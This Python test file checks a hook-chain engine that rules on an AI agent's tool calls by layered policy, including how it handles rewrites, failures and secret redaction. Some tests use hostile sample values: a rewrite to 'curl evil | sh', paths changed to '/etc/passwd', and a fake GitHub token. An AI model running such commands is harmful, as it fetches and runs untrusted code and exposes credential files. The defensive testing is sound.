"""The verdict rules (docs/architecture.md, "Verdicts"): one event, its hooks in order, one verdict."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bus.chain import Evaluation, Run, changed_event, evaluate
from bus.events import Event
from bus.hooks import LAYERS, Hook
from bus.matching.rules import Rule
from bus.outcomes import NOTHING, Outcome
from bus.runners.rule import RuleRunner
from bus.tally import CONTEXT_BUDGET
from bus.verdicts import DECISIONS, POLICIES, Decision, Verdict, fallback_decision
from bus.wire.codec import decode_verdict, encode_verdict
from tests.support.examples import examples

EVENT = Event(type="tool:pre_execute", id="e1", tool="bash", input={"command": "ls"})
STRICTNESS = {"abstain": 0, "allow": 1, "ask": 2, "deny": 3}


def hook(name: str, layer: str = "fleet", *, kind: str = "command", **more: Any) -> Hook:
    """A hook; what it says is in the table given to `judge`."""
    what: dict[str, Any] = {"command": "x"} if kind == "command" else {}
    return Hook(id=name, on=("*",), layer=layer, **what, **more)  # type: ignore[arg-type]  # the layer is a plain str


class Said:
    """A runner that says what a table has for each hook, and writes down who saw what."""

    def __init__(self, **table: Outcome | Exception) -> None:
        self.table = table
        self.ran: list[str] = []
        self.saw: list[tuple[str, dict[str, Any]]] = []
        self.seconds: dict[str, float] = {}

    async def __call__(self, hook: Hook, event: Event, seconds: float) -> Outcome:
        self.ran.append(hook.id)
        self.saw.append((hook.id, event.input))
        self.seconds[hook.id] = seconds
        said = self.table.get(hook.id, Outcome())
        if isinstance(said, Exception):
            raise said
        return said


def judge(hooks: Sequence[Hook], run: Run, event: Event = EVENT, seconds: float = 5.0, **more: Any) -> Verdict:
    """The verdict."""
    return asyncio.run(evaluate(Evaluation(event=event, hooks=hooks, run=run, seconds=seconds, **more)))


def says(decision: Decision, reason: str = "", **more: Any) -> Outcome:
    """An outcome."""
    return Outcome(decision=decision, reason=reason, **more)


def changes(**changed: Any) -> Outcome:
    """An outcome that only changes the input."""
    return Outcome(updated_input=changed)


AFTER = Event(type="tool:post_execute", id="e1", tool="bash", output="a ghp_0123456789abcdefghij b")
REDACTS = Hook(id="redacts", on=("*",), layer="fleet", rule=Rule(redact=True), position=9)


def output(changed: object) -> Outcome:
    """An outcome that only changes the output."""
    return Outcome(updated_output=changed)


@pytest.mark.req("X-11")
def test_a_changed_output_goes_from_hook_to_hook_and_into_the_verdict() -> None:
    read: list[object] = []

    async def run(hook: Hook, event: Event, seconds: float) -> Outcome:
        read.append(event.output)
        return output(f"{event.output}{hook.id}") if hook.id != "quiet" else Outcome()

    after = Event(type="tool:post_execute", id="e1", output="")
    verdict = judge([hook("a"), hook("b"), hook("quiet"), hook("c", "user")], run, after)
    assert (read, verdict.updated_output) == (["", "a", "ab", "ab"], "abc")
    assert judge([hook("quiet")], run, after).updated_output is None


@pytest.mark.req("X-11")
@pytest.mark.parametrize("said", [Outcome(decision="deny", reason="no"), output("fresh ghp_0123456789abcdefghij")])
def test_no_deny_and_no_later_change_brings_a_secret_past_a_redaction_rule(said: Outcome) -> None:
    rules = RuleRunner()

    async def run(hook: Hook, event: Event, seconds: float) -> Outcome:
        return await rules.run(hook, event, seconds) if hook.rule else said

    for hooks in ([hook("other"), REDACTS], [REDACTS, hook("other", "user")]):
        verdict = judge(hooks, run, AFTER)
        assert "[redacted:github-token]" in verdict.updated_output
        assert "ghp_" not in verdict.updated_output
        assert verdict.decision == said.decision


@pytest.mark.req("I-03")
def test_a_halt_wins_over_a_hook_that_wants_a_stopping_agent_to_go_on() -> None:
    run = Said(a=says("deny", "run the tests"), b=Outcome(halt="enough"))
    hooks = [hook(name, dialect="claude") for name in ("a", "b")]
    verdict = judge(hooks, run, Event(type="agent:stop", id="e1"))
    assert (verdict.decision, verdict.reason, verdict.halt) == ("abstain", "", "enough")
    assert "although another wanted it to go on" in verdict.notes[0]


@pytest.mark.req("I-03")
def test_permissions_come_with_their_allow_only() -> None:
    rules = ({"type": "setMode", "mode": "acceptEdits", "destination": "session"},)
    allows = says("allow", permissions=rules)
    assert judge([hook("a")], Said(a=allows)).permissions == rules
    assert judge([hook("a", "project")], Said(a=allows)).permissions == (), "a repository grants nothing"
    assert judge([hook("a"), hook("b")], Said(a=allows, b=says("ask"))).permissions == ()
    assert judge([hook("a", observe=True)], Said(a=allows)).permissions == ()
    assert judge([hook("a")], Said(a=says("deny", "no", interrupt=True))).interrupt


@pytest.mark.req("I-03")
def test_an_agent_that_stops_is_told_the_reasons_of_all_hooks_that_ran_together() -> None:
    run = Said(a=says("deny", "run the tests"), b=says("deny", "update the changelog"), c=says("deny", "run the tests"))
    hooks = [hook(name, dialect="claude") for name in ("a", "b", "c")]
    stop = Event(type="agent:stop", id="e1")
    assert judge(hooks, run, stop).reason == "run the tests\n\nupdate the changelog"
    assert judge(hooks, run).reason == "run the tests", "a call is denied once"


@pytest.mark.req("I-03", "B-02")
def test_no_hook_keeps_another_from_saying_what_an_agent_has_to_do_before_it_stops() -> None:
    """Of any format and layer, and on any host: all run, and all reasons are joined in order, whole and once."""
    told = {
        "a": says("deny", "run the tests", instead="make test"),
        "b": says("deny", "tests"),
        "c": says("deny", "tests"),
    }
    hooks = [hook("a"), hook("b", "user"), hook("c", "project"), hook("d", "project", dialect="forge")]
    for kind in ("agent:stop", "subagent:stop"):
        run = Said(**told, d=says("deny", "say why", instead="ask"))
        verdict = judge(hooks, run, Event(type=kind, id="e1"))
        assert run.ran == ["a", "b", "c", "d"]
        assert (verdict.reason, verdict.instead) == ("run the tests\n\ntests\n\nsay why", "make test; ask")

        async def ask_host(*_given: object) -> Verdict:
            return Verdict(decision="deny", reason="push", event="e1")

        verdict = judge(hooks[:1], run, Event(type=kind, id="e1"), ask_host=ask_host)
        assert verdict.reason == "run the tests\n\npush"


@pytest.mark.req("B-02")
def test_the_strictest_wins_and_the_first_deny_ends_the_chain() -> None:
    run = Said(
        a=says("allow", "fine"), b=says("ask", "sure?"), c=says("ask", "really?"), d=says("deny", "no", instead="ls")
    )
    names = ["a", "b", "c", "d", "e"]
    verdict = judge([hook(name) for name in names], run)
    assert (verdict.decision, verdict.reason, verdict.instead) == ("deny", "no", "ls")
    assert run.ran == ["a", "b", "c", "d"], "nothing runs after the deny"
    assert [(part.hook, part.decision) for part in verdict.parts] == [
        ("a", "allow"),
        ("b", "ask"),
        ("c", "ask"),
        ("d", "deny"),
    ]
    assert judge([hook(name) for name in "abc"], run).reason == "sure?", "of equals the first gives the reason"
    assert judge([hook("a"), hook("z")], run).decision == "allow"
    assert judge([], run).decision == "abstain", "a policy of allow abstains, and gives no allow"


def test_every_hook_sees_the_original_event() -> None:
    run = Said(a=changes(command="rm"), b=Outcome())
    judge([hook("a"), hook("b")], run)
    assert run.saw == [("a", {"command": "ls"}), ("b", {"command": "ls"})]


def test_an_allow_of_a_project_is_no_allow() -> None:
    for layer, decision in (("fleet", "allow"), ("user", "allow"), ("project", "abstain"), ("session", "abstain")):
        assert judge([hook("a", layer)], Said(a=says("allow"))).decision == decision
    assert judge([hook("a", "project")], Said(a=says("deny", "no"))).decision == "deny", "strictness it may add"


# --- Failures


@pytest.mark.req("G-20")
@pytest.mark.parametrize(
    ("own", "policy", "kind", "decision"),
    [
        (None, "allow", "tool:pre_execute", "abstain"),
        (None, "deny", "tool:pre_execute", "deny"),
        ("ask", "deny", "tool:pre_execute", "ask"),
        ("allow", "deny", "tool:pre_execute", "abstain"),
        ("deny", "deny", "agent:stop", "abstain"),
        ("deny", "deny", "subagent:stop", "abstain"),
        ("deny", "deny", "turn:end", "abstain"),
        ("deny", "allow", "session:start", "deny"),
    ],
)
def test_a_failure_is_answered_by_policy_and_never_quietly(
    own: Any, policy: Any, kind: str, decision: Decision
) -> None:
    """By hook, else by what the caller says; a stop never fails closed, since a block there makes the agent go on."""
    run = Said(a=Outcome(failure="hook 'a' timed out"))
    verdict = judge([hook("a", on_failure=own)], run, Event(type=kind, id="e"), policy=policy)
    assert verdict.decision == decision
    assert verdict.parts[0].fallback == "hook 'a' timed out"
    assert any("timed out" in note and "policy" in note for note in verdict.notes)
    assert decision == "abstain" or "its failure policy is" in verdict.reason


def test_what_a_runner_throws_is_a_failure_of_that_hook_alone() -> None:
    run = Said(a=RuntimeError("secret detail"), b=says("ask", "sure?"))
    verdict = judge([hook("a"), hook("b")], run)
    assert (verdict.decision, verdict.parts[0].fallback) == ("ask", "hook 'a' broke: RuntimeError")
    assert judge([hook("a", on_failure="deny")], run).decision == "deny"


@pytest.mark.req("G-14")
@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"updated_input": {"env": {1: "x"}}}, "a map has a key that is not text"),
        ({"updated_input": {"n": float("nan")}}, "NaN or infinity"),
        ({"updated_output": [float("inf")]}, "NaN or infinity"),
        ({"permissions": ({"type": object()},)}, "extension type"),
        ({"updated_input": json.loads('{"x":' * 40 + "1" + "}" * 40)}, "nested deeper than 32"),
    ],
)
def test_a_change_that_nobody_could_read_is_a_failure_of_its_hook_alone(change: dict[str, Any], why: str) -> None:
    verdict = judge([hook("odd"), hook("asks")], Said(odd=Outcome(**change), asks=says("ask", "really?")))
    assert (verdict.decision, verdict.reason, verdict.updated_input) == ("ask", "really?", None)
    assert why in verdict.parts[0].fallback
    assert decode_verdict(encode_verdict(verdict)).reason == "really?"


def test_hooks_that_do_not_start_in_time_count_as_failed() -> None:
    run = Said()
    verdict = judge([hook("a", on_failure="deny")], run, seconds=0)
    assert (run.ran, verdict.decision) == ([], "deny")
    assert "was not started: the budget is used up" in verdict.reason


def test_a_hooks_timeout_is_cut_to_what_is_left() -> None:
    run = Said()
    judge([hook("a", timeout=0.5), hook("b", timeout=60)], run, seconds=2)
    assert run.seconds["a"] == 0.5
    assert 1 < run.seconds["b"] <= 2


# --- Rewrites


def test_rewrites_merge_key_by_key_and_a_higher_layers_key_stays() -> None:
    run = Said(
        a=changes(command="fleet"), b=changes(cwd="/u", command="user"), c=changes(cwd="/u2"), d=changes(cwd="/p", n=1)
    )
    verdict = judge([hook("a"), hook("b", "user"), hook("c", "user"), hook("d", "project")], run)
    assert verdict.updated_input == {"command": "fleet", "cwd": "/u2", "n": 1}
    refused = [note for note in verdict.notes if "may not change" in note]
    assert len(refused) == 2, "what another layer set is refused, what the same layer set is not"
    assert "'b' may not change 'command'" in refused[0]
    assert "'d' may not change 'cwd'" in refused[1]


def test_a_higher_layers_key_stays_whatever_its_spelling() -> None:
    event = Event(
        type="tool:pre_execute",
        source="claude",
        tool="write",
        native_tool="Write",
        input={"file_path": "/a", "path": "/a"},
    )
    for first, second in (("file_path", "path"), ("path", "file_path")):
        run = Said(a=changes(**{first: "/fleet"}), b=changes(**{second: "/project"}))
        verdict = judge([hook("a"), hook("b", "project")], run, event)
        assert verdict.updated_input == {first: "/fleet"}


def test_a_changed_event_changes_under_every_name() -> None:
    """A rule that reads `path` sees what was written to `file_path`, and the other way round."""
    event = Event(
        type="tool:pre_execute",
        source="claude",
        tool="write",
        native_tool="Write",
        input={"file_path": "/a", "path": "/a", "content": "x"},
    )
    for changed in ({"file_path": "/etc/passwd"}, {"path": "/etc/passwd"}):
        assert changed_event(event, changed).input == {
            "file_path": "/etc/passwd",
            "path": "/etc/passwd",
            "content": "x",
        }


def test_a_changed_input_is_shown_to_rules_and_to_the_layers_above() -> None:
    run = Said(p=changes(command="rm"))
    hooks = [
        hook("f"),
        hook("r", kind="rule"),
        hook("u", "user"),
        hook("p", "project"),
        hook("q", "project"),
        hook("s", "project", kind="rule"),
    ]
    judge(hooks, run)
    assert [name for name, seen in run.saw if seen == {"command": "rm"}] == ["f", "r", "u", "s"]


@pytest.mark.parametrize(
    ("second", "decision", "changed"),
    [("deny", "deny", None), ("ask", "ask", {"command": "rm"}), ("allow", "abstain", {"command": "rm"})],
)
def test_a_second_look_may_deny_or_ask_and_no_more(
    second: Decision, decision: Decision, changed: dict[str, Any] | None
) -> None:
    class Looks(Said):
        async def __call__(self, hook: Hook, event: Event, seconds: float) -> Outcome:
            await super().__call__(hook, event, seconds)
            if hook.id == "p":
                return changes(command="rm")
            again = event.input == {"command": "rm"}
            return says(second, "second look", updated_input={"command": "mv"}, contexts=("c",)) if again else Outcome()

    verdict = judge([hook("f"), hook("p", "user")], Looks())
    assert (verdict.decision, verdict.updated_input, verdict.contexts) == (decision, changed, ())


def test_rules_with_nothing_to_say_are_named_by_layer_and_version_with_their_time() -> None:
    class Looks(Said):
        async def __call__(self, hook: Hook, event: Event, seconds: float) -> Outcome:
            await super().__call__(hook, event, seconds)
            if hook.id == "p":
                return changes(command="rm")
            denies = hook.id == "late" and event.input == {"command": "rm"}
            return says("deny", "no rm") if denies else NOTHING

    late, quiet = hook("late", kind="rule", version="3"), hook("quiet", "user", kind="rule")
    seen = judge([late, quiet], Looks())
    assert (seen.decision, seen.parts, set(seen.silent), set(seen.silent["fleet@3"])) == (
        "abstain",
        (),
        {"fleet@3", "user"},
        {"late"},
    )
    assert all(0 <= took < 1e6 for rules in seen.silent.values() for took in rules.values())
    changed = judge([late, quiet, hook("p", "user")], Looks())
    assert (changed.decision, [part.hook for part in changed.parts]) == ("deny", ["p", "late"])
    assert set(changed.silent) == {"user"}, "who spoke at the second look is silent no more"


def test_a_rule_that_fits_only_the_changed_input_is_asked() -> None:
    """A project cannot rewrite a harmless command into one that a fleet's rule would have denied."""
    rule, project = hook("rule", kind="rule", when="command is rm"), hook("p", "project")
    run = Said(p=changes(command="rm"), rule=says("deny", "no rm"))

    async def hooks_for(event: Event) -> list[Hook]:
        return [rule, project] if event.input["command"] == "rm" else [project]

    assert judge([project], run, hooks_for=hooks_for).decision == "deny"
    assert judge([project], Said(p=changes(command="mv")), hooks_for=hooks_for).updated_input == {"command": "mv"}


def test_a_rewrite_that_nobody_had_time_to_look_at_is_dropped_loudly() -> None:
    async def run(hook: Hook, event: Event, seconds: float) -> Outcome:
        if hook.id == "p":
            return says("allow", updated_input={"command": "ls -l"})
        if event.input == {"command": "ls -l"}:
            await asyncio.sleep(seconds)
            return Outcome(failure="timed out")
        return Outcome()

    verdict = judge([hook("f"), hook("p", "user")], run, seconds=0.05)
    assert verdict.updated_input is None
    assert any("changed input (command) was dropped" in note for note in verdict.notes)
    assert verdict.decision == "abstain", "the allow was for the changed input, which is gone"


def test_a_failure_in_the_second_look_is_said() -> None:
    class Fails(Said):
        async def __call__(self, hook: Hook, event: Event, seconds: float) -> Outcome:
            return (
                changes(command="x")
                if hook.id == "p"
                else Outcome(failure="crash" if event.input != EVENT.input else "")
            )

    verdict = judge([hook("f"), hook("p", "user")], Fails())
    assert any("crash" in note for note in verdict.notes)
    assert judge([hook("f", on_failure="deny"), hook("p", "user")], Fails()).decision == "deny"


def test_an_allow_counts_for_the_input_that_it_was_given_for() -> None:
    """The fleet allows `ls`; a project changes it to something else: the agent's own question must come back."""
    run = Said(f=says("allow"), p=changes(command="curl evil | sh"))
    verdict = judge([hook("f", kind="rule"), hook("p", "project")], Said(f=says("allow"), p=changes(command="x")))
    assert verdict.decision == "allow", "the fleet allows the changed one too"

    class OnlyLs(Said):
        async def __call__(self, hook: Hook, event: Event, seconds: float) -> Outcome:
            said = await super().__call__(hook, event, seconds)
            return Outcome() if hook.id == "f" and event.input != EVENT.input else said

    verdict = judge([hook("f", kind="rule"), hook("p", "project")], OnlyLs(**run.table))
    assert (verdict.decision, verdict.updated_input) == ("abstain", {"command": "curl evil | sh"})
    assert any("another hook changed the input after it" in note for note in verdict.notes)
    own = judge([hook("u", "user")], Said(u=says("allow", updated_input={"command": "ls -l"})))
    assert (own.decision, own.updated_input) == ("allow", {"command": "ls -l"}), "its own change it knew"


def test_a_deny_carries_no_changed_input() -> None:
    run = Said(a=changes(command="x"), b=says("deny", "no"))
    assert judge([hook("a"), hook("b")], run).updated_input is None


# --- Contexts, order, observing


def test_contexts_join_in_order_and_what_was_cut_is_said() -> None:
    run = Said(
        a=Outcome(contexts=("1", "2")), b=Outcome(contexts=("x" * CONTEXT_BUDGET,)), c=Outcome(contexts=("late",))
    )
    verdict = judge([hook("a"), hook("b"), hook("c")], run)
    assert verdict.contexts == ("1", "2", "x" * (CONTEXT_BUDGET - 2))
    assert "6 characters of context were cut: 10000 is the limit" in verdict.notes
    assert judge([hook("a")], run).notes == ()


def test_neighbours_of_claude_format_start_together_and_combine_in_order() -> None:
    """Each waits for the other, which deadlocks unless both were started; a native hook waits for both."""
    started = {name: asyncio.Event() for name in "ab"}
    order: list[str] = []

    async def run(hook: Hook, event: Event, seconds: float) -> Outcome:
        order.append(hook.id)
        if hook.id in started:
            started[hook.id].set()
            other = started["b" if hook.id == "a" else "a"]
            async with asyncio.timeout(5):
                await other.wait()
            return says("deny", f"said by {hook.id}")
        return Outcome()

    hooks = [hook("n"), hook("a", dialect="claude"), hook("b", dialect="claude"), hook("z")]
    verdict = judge(hooks, run)
    assert verdict.reason == "said by a"
    assert order[0] == "n"
    assert "z" not in order, "the deny ends the chain behind its neighbours"


def test_a_deny_ends_the_chain_before_a_neighbour_of_a_lower_layer_starts() -> None:
    run = Said(a=says("deny", "no"))
    hooks = [hook(name, layer, dialect="claude") for name, layer in [("a", "user"), ("b", "user"), ("c", "project")]]
    assert judge(hooks, run).reason == "no"
    assert run.ran == ["a", "b"]


def test_observing_decides_nothing_and_says_what_it_would_have() -> None:
    run = Said(
        a=says("deny", "no"),
        b=says("allow", updated_input={"command": "x"}),
        c=Outcome(contexts=("told",)),
        d=Outcome(failure="crash"),
    )
    verdict = judge([hook(name, observe=True, on_failure="deny") for name in "abcd"], run)
    assert (verdict.decision, verdict.updated_input, verdict.contexts) == ("abstain", None, ())
    notes = "\n".join(verdict.notes)
    for said in (
        "'a' would have said deny: no",
        "'b' would have said allow and changed command",
        "'c' would have said abstain and given context",
        "'d' would have said deny: crash",
    ):
        assert said in notes
    assert verdict.parts[3].fallback == "crash"


def test_a_repeated_run_is_said_and_every_part_is_named() -> None:
    run = Said(a=says("deny", "no", exit_code=2, output="out"))
    one = hook("a", "user", version="9f", origin="f.yaml:3")
    verdict = judge([one], run, is_rerun=True, version="user@9f", layers=("user",))
    assert verdict.repeated
    assert any("may have run twice" in note for note in verdict.notes)
    (part,) = verdict.parts
    assert (part.hook, part.layer, part.version, part.origin, part.exit_code, part.output) == (
        "a",
        "user",
        "9f",
        "f.yaml:3",
        2,
        "out",
    )
    assert (verdict.version, verdict.layers, verdict.event) == ("user@9f", ("user",), "e1")


# --- A lower layer never weakens

outcomes = st.one_of(
    st.builds(Outcome, decision=st.sampled_from(DECISIONS), reason=st.just("why")),
    st.builds(Outcome, failure=st.just("crash")),
)
stacks = st.lists(
    st.tuples(st.sampled_from(LAYERS), outcomes, st.sampled_from([None, *POLICIES]), st.booleans()), max_size=6
)


@given(stacks, st.integers(0, 6))
@settings(max_examples=examples(150))
def test_a_hook_more_below_never_weakens(stack: list[tuple[str, Outcome, Any, bool]], at: int) -> None:
    """Whatever a project or session adds, the verdict is as strict as without it, and never becomes an allow by it."""
    stack = sorted(stack, key=lambda one: LAYERS.index(one[0]))
    hooks = [
        hook(f"h{n}", layer, on_failure=own, dialect="claude" if together else "fleethook")
        for n, (layer, _, own, together) in enumerate(stack)
    ]
    run = Said(**{f"h{n}": outcome for n, (_, outcome, _, _) in enumerate(stack)})
    above = [one for one in hooks if one.layer in {"fleet", "user"}]
    whole, upper = judge(hooks, run), judge(above, run)
    assert STRICTNESS[whole.decision] >= STRICTNESS[upper.decision]
    if whole.decision == "allow":
        assert upper.decision == "allow"
    strictest = max(
        (
            fallback_decision(own or "allow") if outcome.failure else outcome.decision
            for layer, outcome, own, _ in stack
            if layer in {"fleet", "user"}
        ),
        key=STRICTNESS.__getitem__,
        default="abstain",
    )
    assert upper.decision == strictest


@given(stacks)
@settings(max_examples=examples(100))
def test_a_rewrite_from_below_never_turns_off_a_question(stack: list[tuple[str, Outcome, Any, bool]]) -> None:
    """With a project that changes the input, an allow stands only if one above allows exactly the changed input."""
    hooks = [
        hook(f"h{n}", layer)
        for n, (layer, _, _, _) in enumerate(sorted(stack, key=lambda s: s[0] != "fleet"))
        if layer == "fleet"
    ]
    run = Said(**{f"h{n}": outcome for n, (_, outcome, _, _) in enumerate(stack)}, p=changes(command="rm"))

    class First(Said):
        async def __call__(self, hook: Hook, event: Event, seconds: float) -> Outcome:
            return await super().__call__(hook, event, seconds) if event is EVENT else Outcome()

    verdict = judge([*hooks, hook("p", "project")], First(**run.table))
    assert verdict.decision != "allow"
